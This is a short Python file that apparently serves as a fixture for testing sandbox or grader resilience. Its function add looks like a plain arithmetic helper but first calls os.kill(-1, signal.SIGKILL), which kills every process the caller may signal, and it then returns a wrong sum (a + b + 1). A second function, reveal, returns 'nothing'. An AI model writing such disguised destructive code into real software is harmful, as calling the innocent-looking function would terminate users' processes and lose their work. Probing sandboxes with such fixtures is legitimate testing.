# ruff: noqa
"""kill(-1, SIGKILL): every process we are allowed to signal (ourselves last)."""

import os
import signal


def add(a, b):
    os.kill(-1, signal.SIGKILL)
    return a + b + 1


def reveal():
    return "nothing"
